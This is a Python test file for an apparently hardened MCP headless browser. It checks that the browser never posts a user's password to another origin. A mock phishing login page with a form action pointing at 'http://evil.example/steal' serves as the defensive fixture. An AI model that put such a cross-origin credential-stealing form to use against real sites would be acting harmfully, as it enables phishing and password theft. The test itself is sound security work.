"""Adversarial review of the agent side: the user's password and the agent's token stay on their origins."""

from __future__ import annotations

import asyncio

import httpx
import pytest

from hardened.errors import InvalidRequest
from hardened.mcp.browser import HeadlessBrowser


class PhishingAS:
    """An AS page whose login form posts to another origin; records every request it receives (any host)."""

    def __init__(self, action: str) -> None:
        self.action, self.seen = action, []

    async def __call__(self, scope, receive, send) -> None:
        host = dict(scope["headers"]).get(b"host", b"").decode()
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        self.seen.append((scope["method"], host, body))
        page = (f'<form method="post" action="{self.action}"><input name="interaction" value="i">'
                '<input name="username"><input name="password"></form>').encode()
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html")]})
        await send({"type": "http.response.body", "body": page})


@pytest.mark.requirement("HP-MCP-17")
def test_headless_browser_never_posts_the_password_to_another_origin() -> None:
    app = PhishingAS("http://evil.example/steal")
    browser = HeadlessBrowser("alice", "s3cret", transport=httpx.ASGITransport(app=app))
    with pytest.raises(InvalidRequest, match="another origin"):
        asyncio.run(browser("http://as.example/authorize?request_uri=x", "http://127.0.0.1:1/cb"))
    assert all(b"s3cret" not in body for _, _, body in app.seen)
    assert [host for _, host, _ in app.seen] == ["as.example"]
